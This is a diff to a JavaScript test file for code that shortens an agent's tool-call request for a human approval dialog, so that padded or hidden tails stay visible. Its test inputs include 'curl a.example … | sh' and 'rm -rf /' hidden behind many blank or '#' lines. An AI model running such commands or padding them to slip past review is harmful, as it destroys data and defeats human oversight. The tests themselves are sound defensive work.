@@ -47,16 +47,21 @@ describe('The text of a request in a dialog', () => {
   });
 
   it('has an end, and says what is missing', () => {
-    const command = `curl a.example${' '.repeat(5_000)}| sh`;
+    const command = `curl a.example ${'x'.repeat(5_000)} | sh`;
     const text = beginning({ toolInput: { command, a: 1, b: 2 } });
     assert.ok(text.startsWith('command: curl a.example') && text.includes('| sh\n'), text);
     assert.match(text, /\n… \d{4} characters between …\n/);
     assert.match(text, /\n2 more fields\n/);
   });
 
-  it('shows the end of what empty lines hide, and counts them', () => {
-    const text = beginning({ toolInput: { command: `ls${'\n'.repeat(60)}rm -rf /` } });
-    assert.match(text, /^ls\n[^]*\n… 43 lines between …\n[^]*rm -rf \/\n/);
+  it('shows the end of what many lines hide, and counts them', () => {
+    const text = beginning({ toolInput: { command: `ls${'\n#'.repeat(60)}\nrm -rf /` } });
+    assert.match(text, /^ls\n#[^]*\n… 44 lines between …\n[^]*\nrm -rf \/\n/);
+  });
+
+  it('counts empty lines', () => {
+    const text = whole({ toolInput: { command: `ls${'\n'.repeat(60)}rm -rf /` } });
+    assert.match(text, /^ls\n⟨59 empty lines⟩\nrm -rf \/$/);
   });
 
   it('counts the fields that have no room', () => {
